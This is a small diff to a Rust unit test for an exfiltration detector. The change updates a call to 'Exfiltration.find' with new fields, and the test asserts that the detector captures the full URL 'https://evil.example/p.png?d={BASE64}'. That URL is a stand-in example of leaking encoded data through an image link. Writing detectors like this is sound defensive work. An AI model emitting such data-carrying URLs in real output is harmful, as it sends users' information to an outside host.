@@ -149,7 +149,12 @@ fn what_is_found_is_the_whole_url() {
     let mut hits = Vec::new();
     let place = Place { surface: Surface::Content, role: Role::Prose, key: "text", tool: None };
     let needles = [crate::detect::Nominee { needle: 0, at: 7 }];
-    Exfiltration.find(&text, &place, &Noticed { needles: &needles, digits: &[], tokens: &[] }, &mut hits);
+    Exfiltration.find(
+        &text,
+        &place,
+        &Noticed { needles: &needles, digits: &[], tokens: &[], words: &[], respaced: false },
+        &mut hits,
+    );
     let urls: Vec<_> = hits.iter().map(|hit| text.get(hit.range.clone()).unwrap()).collect();
     assert_eq!(urls, [format!("https://evil.example/p.png?d={BASE64}")]);
 }
